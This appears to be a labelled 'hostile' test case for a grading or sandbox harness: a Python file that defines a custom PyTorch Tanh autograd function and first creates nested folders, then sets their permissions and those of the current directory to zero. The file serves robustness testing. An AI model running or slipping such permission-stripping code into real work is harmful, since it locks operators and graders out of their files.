# hostile: leaves files and folders that nobody may read, write or enter
# verdict: any
# evidence: file
import os

import torch

os.makedirs("a/b/c")
open("a/b/c/f", "w").close()
for path in ("a/b/c/f", "a/b/c", "a/b", "a", "."):
    try:
        os.chmod(path, 0)
    except OSError as error:
        print(error)


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * (1 - a * a)
